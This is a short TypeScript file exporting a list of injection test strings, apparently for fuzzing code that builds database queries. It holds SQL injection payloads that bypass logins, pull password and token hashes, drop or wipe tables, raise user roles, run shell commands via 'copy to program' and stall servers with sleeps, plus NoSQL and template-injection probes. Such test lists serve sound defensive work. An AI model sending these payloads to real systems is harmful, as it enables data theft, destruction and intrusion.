// Texts that do something where a program pastes them into a statement, for both databases and some
// that are not ours.
const breaks = ["'", '"', "`", "\\", "')", '")', "'))", ";", "--", "/*", "' --", "'/*", "%27", "’"];
const conditions = [
  "' or 1=1 --",
  "' or '1'='1",
  '" or ""="',
  "') or ('1'='1",
  "1 or 1=1",
  "' or true--",
  "admin'--",
  "' union select null--",
  "' union select id, key_hash, null from tokens--",
  "' union all select password_hash from users where role = 100--",
  "' and (select count(*) from users) > 0--",
];
const acts = [
  "'; drop table users; --",
  "'; update users set role = 100; --",
  "'; insert into users (username) values ('pwn'); --",
  "'; delete from ledger; --",
  "1; vacuum",
  "'; pragma writable_schema = 1; --",
  "'; attach database '/tmp/pwn.db' as pwn; --",
  "'; copy users to program 'id'; --",
  "'; select pg_terminate_backend(pid) from pg_stat_activity; --",
];
const sleeps = [
  "'; select pg_sleep(20); --",
  "' || pg_sleep(20) --",
  "' or (select 1 from pg_sleep(20)) is null--",
  "'; waitfor delay '0:0:20'; --",
  "' or sleep(20)#",
  "' or randomblob(1000000000/2)--",
  "(select case when (1=1) then pg_sleep(20) end)",
];
const others = [
  '{"$gt":""}',
  '{"$ne":null}',
  "[$ne]=1",
  "$where: sleep(5000)",
  "$((7*7))",
  "{{7*7}}",
  "#{7*7}",
  "<%= 7*7 %>",
  "%s%s%n",
  "$1",
  "?1",
  ":name",
  "@x",
];

export const sqlPayloads: readonly string[] = [
  ...breaks,
  ...conditions,
  ...acts,
  ...sleeps,
  ...others,
];
